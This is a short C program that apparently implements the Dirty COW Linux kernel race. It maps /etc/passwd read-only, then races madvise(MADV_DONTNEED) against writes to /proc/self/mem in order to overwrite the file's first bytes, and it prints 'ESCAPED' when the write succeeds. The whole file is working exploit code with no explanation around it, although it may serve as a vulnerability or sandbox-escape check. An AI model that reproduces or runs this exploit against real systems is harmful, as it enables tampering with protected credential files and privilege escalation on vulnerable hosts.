#include "attack.h"

static volatile int stop;
static void *map;
static void *drop(void *x) { while (!stop) madvise(map, 4096, MADV_DONTNEED); return 0; }
static void *put(void *x) { int m = open("/proc/self/mem", O_RDWR); while (!stop) { lseek(m, (off_t)map, SEEK_SET); write(m, "ESC", 3); } return 0; }
int main(void) {
  int f = open("/etc/passwd", O_RDONLY);
  map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, f, 0);
  pthread_t a, b;
  pthread_create(&a, 0, drop, 0);
  pthread_create(&b, 0, put, 0);
  usleep(150000);
  stop = 1;
  pthread_join(a, 0);
  pthread_join(b, 0);
  char c[4] = {0};
  pread(f, c, 3, 0);
  printf(strncmp(c, "ESC", 3) ? "unchanged\n" : "ESCAPED\n");
}
